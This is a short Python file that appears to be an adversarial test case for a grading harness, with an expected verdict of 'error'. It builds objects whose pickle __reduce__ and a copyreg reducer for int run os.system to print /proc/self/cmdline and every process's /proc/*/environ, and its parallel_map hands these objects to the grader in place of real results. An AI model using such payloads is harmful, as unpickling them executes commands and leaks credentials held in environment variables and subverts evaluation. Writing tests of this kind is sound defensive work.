"""Hands the judge objects whose unpickling would print the judge's command line, as arguments and as results.

verdict: error
says: TypeError
"""

import copyreg
import os


class Surprise:
    def __reduce__(self):
        return os.system, ("cat /proc/self/cmdline /proc/*/environ",)

    def __getstate__(self):
        return self

    __deepcopy__ = __copy__ = lambda self, memo=None: Surprise()


copyreg.pickle(int, lambda number: (os.system, ("cat /proc/self/cmdline",)))


def parallel_map(function, items, workers):
    return [function(Surprise()) for _ in items]
